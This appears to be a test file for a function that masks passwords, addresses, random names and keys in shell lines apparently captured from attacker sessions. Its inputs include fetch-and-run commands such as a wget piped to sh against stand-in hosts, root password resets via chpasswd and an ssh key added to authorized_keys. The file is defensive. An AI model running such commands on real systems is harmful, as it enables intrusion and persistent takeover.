import { describe, expect, it } from "vitest"
import { maskedTokens } from "../../../src/domain/session/maskedTokens.ts"

const masked = (line: string) => maskedTokens(line).join(" ")

describe("masking a line", () => {
  it.each([
    ["uname -a; cat /proc/cpuinfo | grep name", "uname -a ; cat /proc/cpuinfo | grep name"],
    ["wget http://192.0.2.7/bins/x.sh", "wget http://<address>/bins/x.sh"],
    ["wget http://192.0.2.7:8080/x.sh -O- | sh", "wget http://<address>/x.sh -O- | sh"],
    ["curl https://bad.example.com/a", "curl https://<address>/a"],
    ["tftp -g -r m.sh 198.51.100.9", "tftp -g -r m.sh <address>"],
    ['echo "root:wOodpEcker"|chpasswd|bash', "echo <secret> | chpasswd | bash"],
    ['echo -e "old\\nnew1\\nnew1"|passwd|bash', "echo -e <secret> | passwd | bash"],
    ["/bin/busybox QWXZKP", "/bin/busybox <random>"],
    ["cd /tmp && ./LpWTUfvv", "cd /tmp && ./<random>"],
    ["chmod +x /tmp/a8Xk2pQ9", "chmod +x /tmp/<random>"],
    ["echo -ne '\\x7f\\x45\\x4c'", "echo -ne <bytes>"],
    ["echo deadbeef01234567", "echo <hex>"],
    ["kill 12345", "kill <number>"],
    ["echo aGVsbG8gd29ybGQgdGhpcyBpcyBsb25n | base64 -d", "echo <encoded> | base64 -d"],
  ])("makes '%s' into '%s'", (line, tokens) => {
    expect(masked(line)).toBe(tokens)
  })

  it.each([
    ["mysql -uroot -pplum db", "mysql -uroot -p<secret> db"],
    ["mysqldump -u root -p'plum tree' db", "mysqldump -u root -p<secret> db"],
    ['mysql -e "drop table a; b" -pplum', "mysql -e drop table a ; b -p<secret>"],
    ["/usr/bin/mariadb -pplum\\ tree", "/usr/bin/mariadb -p<secret>"],
    ["mysql -p db", "mysql -p db"],
    ["mkdir -p /tmp/a && ssh -p22 h", "mkdir -p /tmp/a && ssh -p22 h"],
    ["sshpass -p plum ssh -p 22 root@h", "sshpass -p <secret> ssh -p 22 root@h"],
    ['sshpass -v -p "plum tree" ssh h', "sshpass -v -p <secret> ssh h"],
    ["sshpass -pplum ssh h", "sshpass -p<secret> ssh h"],
    ["wget --password=plum -q x", "wget --password=<secret> -q x"],
    ["wget --http-password='plum tree' x", "wget --http-password=<secret> x"],
    ["tool --password plum --user a", "tool --password <secret> --user a"],
    ["tool --password --user a", "tool --password --user a"],
    ["curl ftp://kim:plum@192.0.2.7/a", "curl ftp://<address>/a"],
    ["curl 'http://kim:pl;um@tree@192.0.2.7/a'", "curl http://<address>/a"],
    ["x --url=mongodb://kim:plum@db/a", "x --url=mongodb://db/a"],
    ["echo plum | sudo -S apt install nmap", "echo <secret> | sudo -S apt install nmap"],
    ["echo -n 'plum | tree' kiwi|sudo -kS id", "echo -n <secret> | sudo -kS id"],
    ["printf 'plum' | sudo -u root --stdin id", "printf <secret> | sudo -u root --stdin id"],
    ["echo plum | sudo id", "echo plum | sudo id"],
    ["echo kim:plum | /usr/sbin/chpasswd", "echo <secret> | /usr/sbin/chpasswd"],
    ["echo plum | passwd --stdin kim", "echo <secret> | passwd --stdin <secret>"],
    ["mysql -p'plum", "mysql -p<secret>"],
    ['mysql -p"plum\\', "mysql -p<secret>"],
  ])("makes '%s' into '%s', without the password", (line, tokens) => {
    expect(masked(line)).toBe(tokens)
  })

  it("comes to an end, however a line is made to be hard to read", () => {
    for (const piece of ['\\"', "echo a ", "'", "sshpass -p ", "--a-", "a://", '"\\', "-pa "]) {
      expect(masked(`echo ${piece.repeat(4096)}`).length).toBeLessThan(5000 * 5)
      expect(masked(`sshpass echo "${piece.repeat(4096)}`).length).toBeLessThan(5000 * 5)
    }
  })

  it("leaves nothing of a key, nor of the comment behind it", () => {
    const key = `ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEA${"r4nDomKey".repeat(9)}== somebody`
    const tokens = masked(`echo "${key}">>.ssh/authorized_keys && chmod -R go= ~/.ssh`)
    expect(tokens).toBe("echo <key> >> .ssh/authorized_keys && chmod -R go= ~/.ssh")
  })

  it("is the same for the same script with other passwords, addresses and names", () => {
    const script = (host: string, name: string, password: string) =>
      masked(`cd /tmp; wget http://${host}/${name}; echo "root:${password}"|chpasswd; ./${name}`)
    expect(script("192.0.2.7", "x8Qz3Lm1", "plum")).toBe(
      script("203.0.113.9", "k2Wp9Rt4", "tr33t0p"),
    )
  })

  it("is bounded, however long the line and its tokens are", () => {
    const tokens = maskedTokens(`${"z/".repeat(5000)} ${"a b ".repeat(5000)}`)
    expect(tokens.length).toBeLessThanOrEqual(4096)
    for (const token of tokens) expect(token.length).toBeLessThanOrEqual(64)
  })

  it("gives text that can be stored, whatever was typed", () => {
    expect(masked("\ud800 \u0000 x").isWellFormed()).toBe(true)
    expect(maskedTokens("")).toEqual([])
  })
})

describe("a password that was tried in the session", () => {
  const isTried = (text: string) => ["violet1", "two words", "a@b:c9"].includes(text)
  const without = (line: string) => maskedTokens(line, isTried).join(" ")

  it.each([
    ["violet1", "<secret>"],
    ["two words", "<secret>"],
    ["echo violet1 | su -", "echo <secret> | su -"],
    ["echo 'two words' | su", "echo <secret> | su"],
    ["curl -u root:violet1 http://h.example/x", "curl -u root:<secret> http://h.example/x"],
    ["curl -u root:a@b:c9 -k", "curl -u root:<secret> -k"],
    ["tool -pviolet1 --key=violet1", "tool -p<secret> --key=<secret>"],
    ["tool violet12 violet", "tool violet12 violet"],
  ])("is masked wherever it stands: %s", (line, expected) => {
    expect(without(line).replace("http://<address>", "http://h.example")).toBe(expected)
    expect(without(line)).not.toMatch(/violet1\b|two words|a@b:c9/)
  })
})
